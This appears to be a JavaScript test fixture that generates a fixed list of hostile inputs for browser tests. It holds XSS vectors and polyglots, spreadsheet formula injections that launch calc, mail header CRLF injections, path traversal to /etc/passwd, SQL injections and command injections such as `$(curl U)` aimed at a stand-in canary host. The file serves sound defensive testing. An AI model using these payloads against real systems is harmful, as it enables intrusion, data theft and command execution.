// Hostile texts for tests in the browser: every one must come back as plain text, on every page, and do nothing.
//
// The list is the same at each run. `{ id, kind, text }`: `text` is what a reporter types; whatever would run calls
// `alert(NUMBER)` or asks for `https://canary.example/ID`, where the id is `p` and the number, so that a dialog, a report
// of the content security policy or a request names its payload (a number needs no quotes, which would end an attribute).
// `headerSafe`: it holds no line break or null, and may stand in a mail header as it is.

const CANARY = "https://canary.example";

// Ways out of the place that a text stands in: content, attribute, comment, raw-text element, script string.
const PREFIXES = [
  "",
  "\">",
  "'>",
  "`>",
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</option></select>",
  "\"/><x ",
];

// What would run. `J` becomes a call that opens a dialog, `U` an address of the canary.
const RUNNERS = {
  script: [
    "<script>J</script>",
    "<script src=U></script>",
    "<script src=//canary.example/ID></script>",
    "<script type=module>import('U')</script>",
    "<ScRiPt>J</sCrIpT>",
    "<script\t>J</script\n>",
    "<scr<script>ipt>J</scr</script>ipt>",
    "<script/src='data:text/javascript,J'></script>",
    "<noscript><p title=\"</noscript><img src=x onerror=J>\">",
    "{{constructor.constructor('J')()}}",
    "${J}",
    "<%= J %>",
  ],
  handler: [
    "<img src=x onerror=J>",
    "<img src=x onerror=\"J\">",
    "<img/src='x'/onerror='J'>",
    "<img src=U>",
    "<img srcset=U>",
    "<body onload=J>",
    "<input autofocus onfocus=J>",
    "<select autofocus onfocus=J>",
    "<textarea autofocus onfocus=J>",
    "<details open ontoggle=J>",
    "<video src=U onerror=J autoplay>",
    "<audio src=U onerror=J>",
    "<video poster=U>",
    "<marquee onstart=J>",
    "<p style=animation-name:x onanimationstart=J>",
    "<x onpointerover=J tabindex=1 onfocus=J id=ID>",
    "\" autofocus onfocus=J x=\"",
    "' onmouseover=J x='",
    "` onerror=J `",
  ],
  link: [
    "javascript:J",
    "JaVaScRiPt:J",
    "java\tscript:J",
    " \u0001javascript:J",
    "javascript://canary.example/%0aJ",
    "data:text/html,<script>J</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<a href=javascript:J>press</a>",
    "<a href='java&#10;script:J'>press</a>",
    "<a href=\"&#106;avascript:J\">press</a>",
    "<form action=U><button>press</button></form>",
    "<button formaction=javascript:J form=report>press</button>",
    "<base href=U/>",
    "<meta http-equiv=refresh content='0;url=U'>",
    "<link rel=stylesheet href=U>",
    "<link rel=prefetch href=U>",
    "<iframe src=U></iframe>",
    "<iframe srcdoc='<script>J</script>'></iframe>",
    "<object data=U></object>",
    "<embed src=U>",
  ],
  svg: [
    "<svg onload=J>",
    "<svg/onload=J>",
    "<svg><script>J</script></svg>",
    "<svg><script href=U /></svg>",
    "<svg><image href=U /></svg>",
    "<svg><use href='U#x' /></svg>",
    "<svg><a xlink:href='javascript:J'><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=J attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=J>",
    "<svg><foreignObject><img src=x onerror=J></foreignObject></svg>",
    "<svg><style>@import 'U';</style></svg>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'U'>]><svg>&e;</svg>",
  ],
  mutation: [
    "<template><img src=x onerror=J></template>",
    "<template shadowrootmode=open><img src=x onerror=J></template>",
    "<noscript><style></noscript><img src=x onerror=J>",
    "<svg></p><style><a id='</style><img src=x onerror=J>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=J&gt;'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=J></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>",
    "<xmp><p title='</xmp><img src=x onerror=J>'>",
    "<listing>&lt;img src=x onerror=J&gt;</listing>",
    "<img alt='`><img src=x onerror=J>' src=x>",
    "&lt;img src=x onerror=J&gt;",
    "&amp;lt;script&amp;gt;J&amp;lt;/script&amp;gt;",
    "&#60;script&#62;J&#60;/script&#62;",
    "%3Cscript%3EJ%3C/script%3E",
    "\\u003cscript\\u003eJ\\u003c/script\\u003e",
    "\uff1cscript\uff1eJ\uff1c/script\uff1e",
    "\u02bb\u02ba>\ufe64script\ufe65J",
    "+ADw-script+AD4-J+ADw-/script+AD4-",
    "<img name=body><img name=cookie><form id=documentElement><input name=attributes>",
  ],
  style: [
    "<style>@import 'U';</style>",
    "<style>*{background:url(U)}</style>",
    "<div style=\"background:url(U)\">",
    "<div style=\"position:fixed;inset:0;z-index:9999\">over everything</div>",
    "\" style=\"background:url(U)\" x=\"",
    "};*{background:url(U)}",
    "<style>input[value^=a]{background:url(U)}</style>",
  ],
};

// Texts that are read by something else than a browser: renderers of Markdown, spreadsheets, mail servers, shells.
const OTHERS = {
  markdown: [
    "[press](javascript:J)",
    "![x](U)",
    "![x](U \"title\" onerror=J)",
    "[x]: javascript:J\n[x]",
    "<javascript:J>",
    "<U>",
    "```html\n<script>J</script>\n```",
    "# heading\n\n---\n\n> quote",
    "| a | b |\n|---|---|\n| <img src=x onerror=J> | 2 |",
    "[press](data:text/html,<script>J</script>)",
    "\\[x\\]\\(javascript:J\\)",
  ],
  formula: [
    "=1+1",
    "=HYPERLINK(\"U\",\"press\")",
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(\"U\",\"//a\")",
    "=IMAGE(\"U\")",
    "=WEBSERVICE(\"U\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\",=1+1,\"",
    "';=1+1;'",
    "a\",\"=HYPERLINK(\"\"U\"\")\",\"b",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
  ],
  header: [
    "name\r\nBcc: canary@canary.example",
    "name\nBcc: canary@canary.example",
    "name\rBcc: canary@canary.example",
    "name%0d%0aBcc:%20canary@canary.example",
    "name\u2028Bcc: canary@canary.example",
    "name\u0085Bcc: canary@canary.example",
    "x\r\nContent-Type: text/html\r\n\r\n<script>J</script>",
    "x\r\nSet-Cookie: ID=1",
    "x\r\nLocation: U",
    "x\r\n.\r\nMAIL FROM:<canary@canary.example>",
    "\"<script>J</script>\"@example.org",
    "a@example.org, canary@canary.example",
    "a@example.org\r\nBcc: canary@canary.example",
    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    "=?utf-8?Q?name=0D=0ABcc:_canary@canary.example?=",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file.txt\"; filename=\"ID.html",
    "file\r\nX-ID: 1.txt",
  ],
  control: [
    "null\u0000byte",
    "<scr\u0000ipt>J</scr\u0000ipt>",
    "bell\u0007 and escape \u001b[31mred\u001b[0m",
    "\u001b]0;title ID\u0007",
    "\u001b]8;;U\u0007link\u001b]8;;\u0007",
    "delete\u007f and C1 \u009b31m",
    "line\u2028separator\u2029paragraph",
    "form\u000cfeed\u000bvertical tab",
    "\ufeffbyte order mark",
    "\ufffe\uffff non-characters",
    "back\u0008\u0008\u0008\u0008space",
    "soft\u00adhy\u00adphen",
  ],
  direction: [
    "\u202egnp.exe",
    "invoice\u202excod.exe",
    "\u202eJ\u202c",
    "\u2066isolate without an end",
    "\u2067\u2067\u2067 nested \u2069",
    "\u202a\u202b\u202d\u202e all of them",
    "\u200fright\u200eleft",
    "\u061carabic letter mark",
    "https://bank.example/\u202emoc.elpmaxe.yranac//:sptth",
    "user\u202e@gro.elpmaxe",
    "\u05d0\u05d1\u05d2 (abc) 123",
    "\u0645\u0631\u062d\u0628\u0627 <b>J</b>",
  ],
  invisible: [
    "zero\u200bwidth\u200cletters\u200d",
    "word\u2060joiner\u2063separator",
    "pay\u200bpal.example",
    "<\u200bscript>J</script>",
    "java\u200bscript:J",
    "tag letters \u{e0041}\u{e0042}\u{e0043}\u{e007f}",
    "variation\ufe0f selectors\ufe0e \u{e0100}",
    "hangul\u3164filler\u115f\u1160",
    "braille\u2800blank",
    "mongolian\u180evowel separator",
    "khmer\u17b4\u17b5 invisible vowels",
    "\u034fcombining grapheme joiner",
  ],
  look: [
    "\u0440\u0430ypal.example",
    "\uff30\uff41\uff59\uff30\uff41\uff4c",
    "\u{1d429}\u{1d41a}\u{1d432}",
    "https://canary\u3002example/ID",
    "https://canary.example\u2215path",
    "https://bank.example@canary.example/ID",
    "xn--80ak6aa92e.example",
    "ﬃ ﬅ ß İ ı ſ K Å",
  ],
  long: [
    "w".repeat(2_000),
    "\u0101".repeat(1_500),
    "\u{1f469}\u200d".repeat(300),
    `https://example.org/${"a".repeat(1_500)}`,
    "a\u0300\u0301\u0302\u0303".repeat(200),
    `z${"\u0335\u0321\u0489".repeat(300)}`,
    "\ufdfd".repeat(200),
    "<b>".repeat(400),
    "&".repeat(1_000),
    "\"".repeat(1_000),
    "\n".repeat(500) + "after 500 lines",
    "\u{12031}".repeat(200),
    "(".repeat(1_000),
    "a@".repeat(500),
    "1".repeat(1_000),
  ],
  unicode: [
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "Te reo M\u0101ori: \u0101 \u0113 \u012b \u014d \u016b",
    "decomposed: a\u0304 e\u0304 i\u0304 o\u0304 u\u0304",
    "\u{10ffff} \ue000 private",
    "\u212a\u2126 compatibility",
    "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    "\u0303\u0304 starts with a combining mark",
    "\ud7ff\ue000 beside the surrogates",
  ],
  server: [
    "'; DROP TABLE report; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(10)",
    "NEAR(a b) OR report_fts MATCH 'x' *",
    "\"unbalanced AND (",
    "%s%s%s%n",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "${jndi:ldap://canary.example/ID}",
    "$(curl U)",
    "`curl U`",
    "| curl U",
    "<!--#exec cmd=\"curl U\"-->",
    "<!--#include virtual=\"U\"-->",
    "{\"$ref\":\"U\"}",
    "{\"__proto__\":{\"x\":1}}",
    "{ $name } { -term } { NUMBER($n) }",
    "null",
    "undefined",
    "true",
    "-0",
    "1e309",
    "not_known",
    "{\"not_known\":true}",
  ],
};

// Several of these at once, as one text.
const POLYGLOTS = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=J )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=J//>\\x3e",
  "\">><marquee><img src=x onerror=J></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=J>",
  "'\"--></style></script><svg/onload=J>//`${J}`",
  "-->'\"/></sCript><svG x=\">\" onload=(J)``>",
  "=HYPERLINK(\"U\")<img src=x onerror=J>\u202e[press](javascript:J)\r\nBcc: canary@canary.example",
  "\u200b\u202e<script>J</script>\u0000',\"=1+1\"",
  "</textarea><script>J</script>\n# heading\n\n![x](U)\n@SUM(1)",
  "%0d%0aSet-Cookie:ID=1%0d%0a%0d%0a<svg onload=J>{{7*7}}",
];

function texts() {
  const all = [];
  for (const [kind, runners] of Object.entries(RUNNERS)) {
    for (const [at, runner] of runners.entries()) {
      // As it stands, and after four of the ways out; which four moves on with each, so that every way meets every kind.
      const ways = new Set([0, 1 + (at % 11), 1 + ((at + 3) % 11), 1 + ((at + 6) % 11), 1 + ((at + 9) % 11)]);
      for (const way of ways) all.push([kind, PREFIXES[way] + runner]);
    }
  }
  for (const [kind, list] of Object.entries(OTHERS)) {
    for (const text of list) all.push([kind, text]);
  }
  for (const text of POLYGLOTS) all.push(["polyglot", text]);
  return all;
}

// Puts the payload's own name into its call and its address. `U` and `J` are replaced only as words of their own.
function named(text, id) {
  return text
    .replace(/(?<![A-Za-z0-9])J(?![A-Za-z0-9])/g, `alert(${id.slice(1)})`)
    .replace(/(?<![A-Za-z0-9])U(?![A-Za-z0-9])/g, `${CANARY}/${id}`)
    .replaceAll("ID", id);
}

// All payloads, in a fixed order.
export const payloads = texts().map(([kind, text], at) => {
  const id = `p${1000 + at}`;
  const said = named(text, id);
  return { id, kind, text: said, headerSafe: !/[\r\n\0]/.test(said) };
});

// The host that nothing may ever ask.
export const canary = CANARY;
